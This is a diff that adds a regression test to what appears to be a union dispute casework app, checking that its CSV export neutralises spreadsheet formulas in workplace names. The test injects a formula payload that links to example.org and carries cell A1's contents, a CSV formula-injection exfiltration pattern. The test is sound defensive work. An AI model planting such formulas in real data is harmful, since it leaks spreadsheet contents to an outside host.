@@ -17,7 +17,7 @@ from app import stand_down_views
 from app.stand_down_views import COLUMNS, Standing, standing_page
 from ballots import stand_down, stand_down_messages
 from casework.cases import Case
-from casework.register.models import Member
+from casework.register.models import Member, Workplace
 from casework.stand_downs import StandDown, StandDownReason, StandDownRecipient
 from core.db import Database
 from core.settings import settings
@@ -225,6 +225,16 @@ def test_the_list_is_narrowed_to_those_not_reached_yet(client: TestClient, struc
     assert len(rows) == 1 + left
     assert len(client.get(f"/disputes/{DISPUTE}/standing.csv").text.splitlines()) == 1 + DRILL.concerned
     assert client.get(f"/disputes/{DISPUTE}/standing?only=asleep").status_code == 404
+
+
+def test_no_cell_of_the_file_is_a_formula(client: TestClient, struck: Database) -> None:
+    """Turns red if `as_csv` writes the name of a workplace as it stands: a spreadsheet would work it out."""
+    with unit_of_work("staff:test", on=struck) as uow:
+        for workplace in uow.session.query(Workplace):
+            workplace.name = '=HYPERLINK("http://example.org/?"&A1,"School")'
+    ordered(client)
+    rows = csv.reader(io.StringIO(client.get(f"/disputes/{DISPUTE}/standing.csv").text))
+    assert {row[COLUMNS.index("workplace")][:2] for row in rows} == {"wo", "'="}
 
 
 def test_neither_page_nor_file_names_a_member(client: TestClient, struck: Database) -> None:
